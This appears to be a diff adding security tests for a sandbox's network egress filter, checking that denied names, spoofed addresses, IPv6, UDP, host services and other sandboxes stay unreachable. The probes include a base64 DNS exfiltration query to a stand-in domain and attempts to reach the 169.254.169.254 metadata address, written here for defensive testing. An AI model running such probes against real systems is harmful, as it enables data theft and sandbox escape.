@@ -1,0 +1,213 @@
+"""Attacks on the egress filter of sandboxes with a network policy (runtime/net).
+
+Each test runs real code in a real policy sandbox against servers in network
+namespaces the test made (tests/security/net_helpers.py, TEST-NET-2 addresses that
+never leave this host); names reach corral's resolver through the engine's
+``network_hosts`` mapping (the daemon side), never through the sandbox.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import socket
+import tempfile
+
+import pytest
+
+from tests.conftest import ROOT_REASON, have_root_runtime
+from tests.security.net_helpers import server_ns
+
+pytestmark = pytest.mark.skipif(not have_root_runtime(), reason=ROOT_REASON)
+
+# Runs in the sandbox: each probe prints [outcome, seconds].
+PROBE = r"""
+import json, socket, struct, sys, time
+def http(host, ip=None, port=80):
+    t = time.monotonic()
+    try:
+        s = socket.create_connection((ip or host, port), timeout=10)
+        s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
+        data = b""
+        while chunk := s.recv(4096):
+            data += chunk
+        out = data.split(b"\r\n\r\n", 1)[-1].decode()
+    except Exception as e:
+        out = type(e).__name__
+    return [out, time.monotonic() - t]
+def dns(name, qtype=1):
+    q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(
+        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!2H", qtype, 1)
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+    u.sendto(q, ("192.0.2.53", 53))  # any server: all DNS goes to corral's resolver
+    r = u.recv(512)
+    return [r[3] & 0xF, struct.unpack("!H", r[6:8])[0]]  # rcode, answers
+print(json.dumps({k: eval(v) for k, v in json.loads(sys.argv[1]).items()}))
+"""
+
+
+async def probe(engine, sid: str, **probes: str) -> dict:
+    r = await engine.exec(sid, ["python3", "-c", PROBE, json.dumps(probes)], timeout=120)
+    assert r.returncode == 0, r.stderr.decode()
+    return json.loads(r.stdout)
+
+
+@pytest.fixture
+async def servers():
+    """Two servers: ``good`` (answers "GOOD") and ``bad`` ("BAD"), named good.test and
+    bad.test for corral's resolver; and an engine that knows those names."""
+    from corral.runtime.engine import Engine
+
+    with server_ns(2, "GOOD") as good, server_ns(6, "BAD") as bad:
+        eng = await Engine.open(tempfile.mkdtemp(prefix="corral-test-state-"),
+                                network_hosts={"good.test": good, "bad.test": bad})
+        try:
+            yield eng, good, bad
+        finally:
+            await eng.close()
+
+
+async def test_allowed_name_reached_denied_name_refused(servers):
+    engine, good, bad = servers
+    sb = await engine.create(network={"allow": ["good.test"]})
+    got = await probe(engine, sb.id, good='http("good.test")', bad='http("bad.test")',
+                      bad_ip=f'http("x", ip="{bad}")')
+    assert got["good"][0] == "GOOD GET / HTTP/1.0"
+    assert got["bad"][0] == "gaierror"  # NXDOMAIN: the name does not exist for it
+    assert got["bad_ip"][0] == "ConnectionResetError"  # not allowed: reset at once
+    assert got["bad_ip"][1] < 1.0
+    other = await engine.create(network={"allow": ["bad.test"]})
+    got = await probe(engine, other.id, good='http("good.test")')
+    assert got["good"][0] == "gaierror"
+    events = engine.network_events(sb.id)
+    assert any({"kind": "tcp", "name": "good.test", "ip": good, "port": 80,
+                "verdict": "allowed"}.items() <= e.items() for e in events)
+    refused = [e for e in events if e["verdict"] == "refused"]
+    assert {(e["kind"], e["name"]) for e in refused} >= {("dns", "bad.test")}
+    assert any(e["kind"] == "tcp" and e["ip"] == bad for e in refused)
+
+
+async def test_spoofed_address_reaches_only_the_allowed_server(servers):
+    """The sandbox's own idea of where good.test lives (its /etc/hosts, a forged DNS
+    answer) gains nothing: the proxy dials the allowed *name* itself."""
+    engine, good, bad = servers
+    sb = await engine.create(network={"allow": ["good.test"]})
+    got = await probe(engine, sb.id, spoof=f'http("good.test", ip="{bad}")',
+                      spoof_host=f'http("bad.test", ip="{good}")')
+    assert got["spoof"][0] == "GOOD GET / HTTP/1.0"  # not BAD
+    assert got["spoof_host"][0] == "ConnectionResetError"
+
+
+async def test_dns_answers_allowed_names_only(servers):
+    engine, _, _ = servers
+    sb = await engine.create(network={"allow": ["good.test"]})
+    got = await probe(engine, sb.id, a='dns("good.test")', no='dns("bad.test")',
+                      txt='dns("c2VjcmV0.exfil.example", 16)', aaaa='dns("good.test", 28)')
+    assert got["a"] == [0, 1]
+    assert got["no"] == [3, 0] and got["txt"] == [3, 0]  # NXDOMAIN
+    assert got["aaaa"] == [0, 0]  # no IPv6: an empty answer
+
+
+async def test_ipv6_and_udp_refused_fast(servers):
+    engine, _, _ = servers
+    sb = await engine.create(network={"allow": ["*", "0.0.0.0/0"]})
+    code = r"""
+import json, socket, time
+out = {}
+for name, fam, addr in (("v6", socket.AF_INET6, ("2001:db8::1", 443)),
+                        ("v6_mapped", socket.AF_INET6, ("::ffff:127.0.0.1", 80))):
+    t = time.monotonic()
+    try:
+        socket.create_connection(addr, timeout=10); out[name] = "connected"
+    except Exception as e:
+        out[name] = type(e).__name__
+    out[name + "_s"] = time.monotonic() - t
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.connect(("198.51.100.2", 7000))
+u.send(b"x"); t = time.monotonic()
+try:
+    u.recv(10); out["udp"] = "answered"
+except Exception as e:
+    out["udp"] = type(e).__name__
+out["udp_s"] = time.monotonic() - t
+print(json.dumps(out))
+"""
+    r = await engine.exec(sb.id, ["python3", "-c", code], timeout=60)
+    got = json.loads(r.stdout)
+    assert got["v6"] == "OSError" and got["v6_s"] < 1.0  # no IPv6 route: unreachable
+    assert got["v6_mapped"] != "connected"
+    assert got["udp"] == "ConnectionRefusedError" and got["udp_s"] < 1.0
+
+
+async def test_never_reachable_under_any_policy(servers):
+    """The host's services (loopback, its own addresses, the link's host end), another
+    sandbox, and the metadata address: refused even by a policy that allows the
+    whole internet (and, but for the metadata address, names their ranges)."""
+    engine, _, _ = servers
+    host_srv = socket.socket()
+    host_srv.bind(("0.0.0.0", 0))  # as a daemon on TCP would be: every host address
+    host_srv.listen()
+    port = host_srv.getsockname()[1]
+    try:
+        # the host's and the links' ranges named explicitly: still never; the metadata
+        # address: only by a rule naming its range (not tested: no traffic leaves)
+        wide = {"allow": ["*", "0.0.0.0/0", "127.0.0.0/8", "10.0.0.0/8"]}
+        target = await engine.create(network=wide)
+        await engine.exec(target.id, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &",
+                          timeout=30)
+        sb = await engine.create(network=wide)
+        host_end = engine.net._by_id[sb.id].link.host_ip
+        other = engine.net._by_id[target.id].link.sandbox_ip
+        other_host_end = engine.net._by_id[target.id].link.host_ip
+        await asyncio.sleep(0.5)
+        got = await probe(
+            engine, sb.id, host_end=f'http("x", ip="{host_end}", port={port})',
+            other=f'http("x", ip="{other}", port=8000)',
+            other_end=f'http("x", ip="{other_host_end}", port={port})',
+            meta='http("x", ip="169.254.169.254")',
+            meta_name='http("169.254.169.254")',
+        )
+        for key, (outcome, seconds) in got.items():
+            assert outcome == "ConnectionResetError", (key, outcome)
+            assert seconds < 1.0
+        reasons = [e["reason"] for e in engine.network_events(sb.id) if e["verdict"] == "refused"]
+        assert sum("never reachable" in r for r in reasons) >= 3
+    finally:
+        host_srv.close()
+
+
+async def test_update_network_cuts_a_live_connection(servers):
+    engine, good, _ = servers
+    sb = await engine.create(network={"allow": [f"{good}:7000"]})
+    code = f"""
+import socket, sys, time
+s = socket.create_connection(("{good}", 7000), timeout=30)
+s.sendall(b"ping"); print(s.recv(10).decode(), flush=True)
+open("/tmp/connected", "w").close()
+try:
+    print(repr(s.recv(10)), flush=True)
+except Exception as e:
+    print(type(e).__name__, flush=True)
+"""
+    task = asyncio.create_task(engine.exec(sb.id, ["python3", "-c", code], timeout=60))
+    for _ in range(200):
+        r = await engine.exec(sb.id, ["test", "-e", "/tmp/connected"], timeout=10)
+        if r.returncode == 0:
+            break
+        await asyncio.sleep(0.05)
+    await engine.update_network(sb.id, {"allow": ["good.test"]})
+    r = await task
+    assert r.stdout.decode().split() == ["ping", "ConnectionResetError"]
+    assert engine.network_events(sb.id)[-1]["reason"].startswith("cut")
+    got = await probe(engine, sb.id, good='http("good.test")')  # the new policy holds
+    assert got["good"][0] == "GOOD GET / HTTP/1.0"
+
+
+async def test_none_and_host_have_no_filter_to_change(servers):
+    from corral.errors import InvalidState
+
+    engine, _, _ = servers
+    sb = await engine.create()
+    with pytest.raises(InvalidState):
+        await engine.update_network(sb.id, {"allow": ["good.test"]})
+    with pytest.raises(InvalidState):
+        engine.network_events(sb.id)
